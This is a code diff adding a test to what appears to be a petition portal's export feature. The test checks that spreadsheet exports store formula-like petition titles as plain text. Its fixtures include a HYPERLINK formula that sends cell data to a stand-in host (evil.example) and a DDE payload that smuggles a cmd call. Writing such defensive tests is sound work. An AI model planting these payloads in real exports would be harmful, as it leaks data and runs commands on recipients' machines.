@@ -252,3 +252,18 @@ def test_qr_codes_point_at_the_public_portal_address_when_configured(login, coun
     monkeypatch.setenv("XINFANG_PUBLIC_URL", "https://xf.example.gov.cn/")
     page = login(county.users["officer"]).get(reverse("qr_codes")).content.decode()
     assert f"https://xf.example.gov.cn/portal/submit/?division={county.villages[0].code}" in page
+
+
+def test_export_writes_formula_like_titles_as_text(login, county, frozen):
+    """Issue 14 item 14: a citizen's ``=HYPERLINK(...)`` title must not become a live formula."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    register(county, sh(2026, 2, 2), title=evil, request="@SUM(1+1)*cmd|' /C calc'!A0")
+    r = login(county.users["officer"]).get(reverse("search_export"), {"q": "HYPERLINK"})
+    ws = load_workbook(BytesIO(r.content)).active
+    header = [c.value for c in ws[1]]
+    title = ws.cell(row=2, column=header.index("标题") + 1)
+    request = ws.cell(row=2, column=header.index("诉求") + 1)
+    assert title.data_type == "s" and title.value == "'" + evil
+    assert request.data_type == "s" and request.value.startswith("'@SUM")
+    for row in ws.iter_rows(min_row=2):
+        assert all(c.data_type == "s" for c in row if c.value is not None)
